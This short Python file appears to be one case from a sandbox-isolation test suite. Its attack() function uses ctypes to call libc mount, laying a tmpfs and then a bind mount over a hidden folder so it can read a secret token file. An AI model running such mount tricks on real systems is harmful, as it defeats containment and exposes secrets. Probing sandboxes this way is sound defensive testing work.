"""Mount something over the hidden folder. Success: the token, or the folder changed."""

import ctypes


def attack():
    libc = ctypes.CDLL(None)
    libc.mount(b"none", HIDDEN.encode(), b"tmpfs", 0, None)
    libc.mount(HIDDEN.encode(), b".", None, 4096, None)
    return open(SECRET.rsplit("/", 1)[1]).read()
